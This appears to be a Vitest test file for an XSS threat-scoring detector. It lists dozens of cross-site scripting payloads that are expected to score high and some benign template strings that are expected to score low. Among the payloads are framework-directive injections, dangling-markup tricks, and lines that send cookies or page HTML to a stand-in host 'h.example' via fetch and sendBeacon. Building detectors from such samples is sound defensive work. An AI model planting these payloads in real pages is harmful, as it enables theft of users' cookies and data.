import { describe, expect, it } from 'vitest'
import { xss } from '../../plugins/threat-score/xss.ts'
import { scoreOf } from './score-of.ts'

const inDocument = { where: 'body.json./text' }

describe('directives that leave their template', () => {
  it.each([
    '<p :=_b.constructor`alert(2)`()>',
    '<q @click=e=$event.composedPath().pop().alert(2)>',
    '<img src=y @error="$event.target.ownerDocument.defaultView.alert(2)">',
    '<svg@load=this.alert(2)>',
    '<b v-on:click="$event.view.prompt(2)">b</b>',
    '<details v-on:toggle=this.confirm(3) open>',
    `<y v-bind:is="'script'" src="//h.example/b" />`,
    `<component :is="'iframe'">`,
    `<div x-data x-init="import('//h.example/b.js')">`,
    `<div ng-app><i ng-repeat="(k, v) in w.view"><i ng-if="k == 'window'">{{ [2].reduce(v.confirm, 2) }}</i></i></div>`,
    "{{ ['b'].map(w.prompt) }}",
    '<b hx-on::after-swap="fetch(`https://h.example/`+document.cookie)">b</b>',
    '<b data-hx-on--load="eval(name)">b</b>',
    '<b data-on-load="@post(\'//h.example/b\')">b</b>',
    '<b up-on-accepted="window.location=\'//h.example\'">b</b>',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
    expect(scoreOf(xss, value, inDocument)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    '<a @click.prevent="$emit(\'pick\', item)" :href="item.url">{{ item.title }}</a>',
    '<b-button @click="this.$modal.confirm(\'Sure?\')">Delete</b-button>',
    '<li ng-repeat="i in items | orderBy:\'name\'" ng-click="pick(i, $event)">{{i.name}}</li>',
    '<div x-data="{ open: false }" @click.outside="open = false">',
    '<component :is="currentTab" @close="open = false"></component>',
    'Write to <ann@example.org> for a key = value file',
  ])('not %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(60)
  })
})

describe('markup that takes content along or brings it', () => {
  it.each([
    "<img src='//h.example/?",
    '<table background="//h.example/b?',
    '<isindex type=image src="//h.example?',
    '<a href=http://h.example/b.html>go on</a><base target="',
    "<button form=f>b</button><form id=f action=//h.example target='",
    '<object type=text/html><param name=movie value=https://h.example>',
    '<object><param name=url value=//h.example></object>',
    '<svg><use href="//h.example/b.php#y" /></svg>',
    '<svg><use href="//h.example/x.svg#a"></use></svg>',
    '<style>input[name=nonce][value^=b]{background:url(//h.example/b)}</style>',
    '<a href=# language="JScript.Encode" onclick="#@~^DAAAAA==b^+.D`9#bgIAAA==^#~@">b</a>',
    `<img src=y onerror="{var{2:a}='bcd'}[self][0][x+y](a)">`,
    '<listing>&lt;img onerror=alert(2) src&gt;</listing>',
    "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('B');<![CDATA[<]]>/SCRIPT<![CDATA[>]]>",
  ])('is refused in documents too: %s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
    expect(scoreOf(xss, value, inDocument)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    "navigator.sendBeacon('https://h.example',document.documentElement.outerHTML)",
    "fetch('//h.example/?'+document.body.innerText)",
    '""+{toString:confirm}',
    "this['PrOmPt'.toLowerCase()](2)",
    "self['t-r-e'.replace(/-/g,'')](2)",
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })
})
